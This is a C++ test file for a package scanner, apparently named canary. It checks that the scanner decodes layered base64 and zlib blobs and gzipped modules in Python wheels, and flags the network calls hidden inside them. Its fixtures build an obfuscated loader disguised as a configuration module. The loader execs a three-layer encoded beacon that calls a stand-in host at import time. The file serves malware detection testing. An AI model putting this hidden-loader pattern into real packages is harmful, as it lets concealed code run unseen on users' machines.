// Decoded layers end to end: a blob in a real file is decoded, and the layer
// is scanned by the same pack as a file of its own, with the chain in the
// findings. Uses the shipped default pack, so the rules that fire are the
// ordinary ones.
#include <catch2/catch.hpp>
#include <string>

#include "engine/artifact.hpp"
#include "engine/scanner.hpp"
#include "support/artifact_builder.hpp"
#include "support/compressors.hpp"
#include "support/encoders.hpp"
#include "support/fixtures.hpp"

using namespace canary;

namespace {

std::string b64(std::string_view in) { return canary::test::base64_encode(in); }

using canary::test::zlib_of;

const LoadedPack& default_pack() {
  static const LoadedPack lp = load_pack(
      PackSource{{test::source_dir() / "rules"}, {test::source_dir() / "stdlib-rules"}}, LoadOptions{});
  REQUIRE(lp.pack);
  return lp;
}

ArtifactReport scan_files(std::vector<MemoryEntry> files, ScanOptions opts = {}) {
  auto reader = make_memory_reader(ArtifactKind::Wheel, std::move(files));
  return scan_reader({default_pack().pack.get()}, *reader, "memory.whl", opts);
}

const Finding* find(const ArtifactReport& r, const std::string& rule, const std::string& file_prefix = "") {
  for (const Finding& f : r.findings)
    if (f.rule == rule && f.file.rfind(file_prefix, 0) == 0) return &f;
  return nullptr;
}

// The beacon, three layers deep: base64 of zlib of base64.
const std::string kBeacon =
    "import urllib.request\n"
    "urllib.request.urlopen(\"http://example.invalid/beacon?host=x\")\n";

std::string hidden_module() {
  return "\"\"\"Configuration helpers.\"\"\"\n"
         "import base64, zlib\n"
         "\n"
         "_DATA = \"" + b64(zlib_of(b64(kBeacon))) + "\"\n"
         "exec(base64.b64decode(zlib.decompress(base64.b64decode(_DATA))))\n";
}

}  // namespace

TEST_CASE("scan: a beacon hidden three layers deep fires the ordinary network rule, with its chain") {
  ArtifactReport r = scan_files({{"pkg/__init__.py", hidden_module()}});
  const Finding* f = find(r, "canary:INIT_MODULE_LEVEL_NETWORK");
  REQUIRE(f != nullptr);
  CHECK(f->file == "pkg/__init__.py#base64>zlib>base64@L4");
  CHECK(f->decode_chain == std::vector<std::string>{"base64", "zlib", "base64"});
  CHECK(f->decoded_from == "pkg/__init__.py");
  CHECK(f->decoded_line == 4);
  CHECK(f->line == 2);  // the line inside the decoded layer
  CHECK(f->excerpt.find("example.invalid") != std::string::npos);
  CHECK(r.files_scanned == 1);
  CHECK(r.files_decoded == 1);
  CHECK(r.verdict >= Verdict::HighRisk);
}

TEST_CASE("scan: decoding is bounded by depth, depth 0 turns it off") {
  ScanOptions opts;
  opts.max_decode_depth = 0;
  ArtifactReport off = scan_files({{"pkg/__init__.py", hidden_module()}}, opts);
  CHECK(off.files_decoded == 0);
  CHECK(find(off, "canary:INIT_MODULE_LEVEL_NETWORK") == nullptr);
  opts.max_decode_depth = 2;  // stops on the inner base64, which is no text to scan
  ArtifactReport shallow = scan_files({{"pkg/__init__.py", hidden_module()}}, opts);
  CHECK(shallow.files_decoded == 0);
  CHECK(find(shallow, "canary:INIT_MODULE_LEVEL_NETWORK") == nullptr);
}

TEST_CASE("scan: a blob inside a decoded layer is decoded too, its chain continuing the outer one") {
  std::string inner = "import base64\nexec(base64.b64decode(\"" + b64(kBeacon) + "\"))\n";
  std::string outer = "import base64\n\nexec(base64.b64decode('" + b64(inner) + "'))\n";
  ArtifactReport r = scan_files({{"pkg/__init__.py", outer}});
  CHECK(r.files_decoded == 2);
  const Finding* f = find(r, "canary:INIT_MODULE_LEVEL_NETWORK");
  REQUIRE(f != nullptr);
  CHECK(f->file == "pkg/__init__.py#base64@L3#base64@L2");
  CHECK(f->decode_chain == std::vector<std::string>{"base64", "base64"});
  CHECK(f->decoded_line == 3);
}

TEST_CASE("scan: blobs are decoded in Python files only, and noise makes no layer") {
  std::string data = "payload: " + b64(kBeacon) + "\n";
  ArtifactReport r = scan_files({{"pkg/data.txt", data},
                                 {"pkg/hashes.py", "SHA = '71e35aef03099cd1f2d6446734273025a163597de93912df321ef118bf135238'\n"}});
  CHECK(r.files_decoded == 0);
  CHECK(r.findings.empty());
}

TEST_CASE("scan: a module in a lone .gz file is scanned as that module, inside the archive that holds it") {
  // A loader reads gzip.open("payload.py.gz") and execs it: the module's own
  // rules fire on the decompressed text, named ARCHIVE!/MODULE.
  test::TempDir dir;
  const std::filesystem::path whl = dir.path() / "carrier-1.0-py3-none-any.whl";
  test::write_wheel(whl, {{"carrier/__init__.py", "A = 1\n"},
                          {"carrier/payload.py.gz", test::zlib_of(kBeacon, true)}});
  ArtifactReport r = scan_artifact(*default_pack().pack, whl, ScanOptions{});
  INFO(r.errors.size());
  const Finding* f = find(r, "canary:MODULE_LEVEL_NETWORK");
  REQUIRE(f != nullptr);
  CHECK(f->file == "carrier/payload.py.gz!/payload.py");
  CHECK(f->line == 2);
  CHECK(f->excerpt.find("example.invalid") != std::string::npos);
  CHECK(find(r, "canary:PAYLOAD_ARCHIVE_INSIDE", "carrier/payload.py.gz") != nullptr);
  CHECK(r.files_scanned == 3);

  // With inner archives turned off, the compressed file is only a file.
  ScanOptions flat;
  flat.limits.max_archive_depth = 1;
  ArtifactReport closed = scan_artifact(*default_pack().pack, whl, flat);
  CHECK(find(closed, "canary:MODULE_LEVEL_NETWORK") == nullptr);
  CHECK(closed.files_scanned == 2);
}
